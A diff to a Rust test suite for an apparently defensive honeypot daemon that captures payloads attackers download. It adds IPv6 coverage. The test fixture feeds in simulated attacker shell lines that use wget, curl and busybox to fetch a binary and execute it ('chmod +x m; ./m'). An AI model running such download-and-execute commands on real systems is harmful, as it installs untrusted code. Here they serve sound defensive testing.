@@ -144,10 +144,14 @@ fn stored_files(d: &Daemon) -> Vec<PathBuf> {
 /// python3 http.server on `port` in the attacker namespace, requests logged to
 /// `log`.
 fn http_server(net: &NetPair, dir: &Path, port: u16, log: &Path) -> Background {
+    http_server_on(net, &net.at_v4, dir, port, log)
+}
+
+/// python3 http.server on `addr` (IPv4 or IPv6) `port` in the attacker namespace.
+fn http_server_on(net: &NetPair, addr: &str, dir: &Path, port: u16, log: &Path) -> Background {
     let bg = net.background_attacker(&format!(
-        "cd {} && exec {PY} -m http.server {port} --bind {} 2>{}",
+        "cd {} && exec {PY} -m http.server {port} --bind {addr} 2>{}",
         dir.display(),
-        net.at_v4,
         log.display()
     ));
     wait_listening(&net.attacker, "tcp", port, 1);
@@ -228,6 +232,8 @@ fn http_and_https_fetched_stored_once_then_cached_and_capped() {
     let log = work.path().join("http.log");
     let _http = http_server(&net, files.path(), 8000, &log);
     let _https = https_server(&net, files.path(), 8443, work.path());
+    let log6 = work.path().join("http6.log");
+    let _http6 = http_server_on(&net, &net.at_v6, files.path(), 8006, &log6);
     let d = Daemon::start(&net, &config(&format!("{ALLOW}\nmax_size = \"1MiB\"")));
     let at = &net.at_v4;
 
@@ -238,11 +244,13 @@ fn http_and_https_fetched_stored_once_then_cached_and_capped() {
         &format!(
             "cd /tmp || cd /var/run; wget http://{at}:8000/mal.bin -O m; chmod +x m; ./m\r\n\
              curl -k -o n https://{at}:8443/mal.bin\r\n\
-             /bin/busybox wget {at}:8000/big.bin\r\n"
+             /bin/busybox wget {at}:8000/big.bin\r\n\
+             wget -q http://[{at6}]:8006/mal.bin\r\n",
+            at6 = net.at_v6
         ),
     );
     let ds = downloads(&e);
-    assert_eq!(ds.len(), 3, "{ds:#?}");
+    assert_eq!(ds.len(), 4, "{ds:#?}");
     let plain = by_url(&ds, &format!("http://{at}:8000/mal.bin"));
     assert_fetched(&d, plain, &mal);
     assert_eq!(plain["analyzer"], "http");
@@ -254,13 +262,16 @@ fn http_and_https_fetched_stored_once_then_cached_and_capped() {
     assert_eq!(plain["source"]["kind"], "payload");
     let tls = by_url(&ds, &format!("https://{at}:8443/mal.bin"));
     assert_fetched(&d, tls, &mal);
+    let v6 = by_url(&ds, &format!("http://[{}]:8006/mal.bin", net.at_v6));
+    assert_fetched(&d, v6, &mal);
+    assert_eq!(v6["host"], net.at_v6.as_str());
     let cut = by_url(&ds, &format!("http://{at}:8000/big.bin"));
     assert_eq!(
         (cut["size"].as_u64(), cut["truncated"].as_bool()),
         (Some(1 << 20), Some(true))
     );
     assert_eq!(cut["hashes"]["sha256"], sha256(&big[..1 << 20]).as_str());
-    // mal.bin twice (HTTP and HTTPS) is one file; the cut big.bin the other.
+    // mal.bin three times (HTTP, HTTPS, IPv6) is one file; the cut big.bin the other.
     assert_eq!(stored_files(&d).len(), 2, "{:?}", stored_files(&d));
 
     // A second attack with the same URL: not fetched again, reported cached.
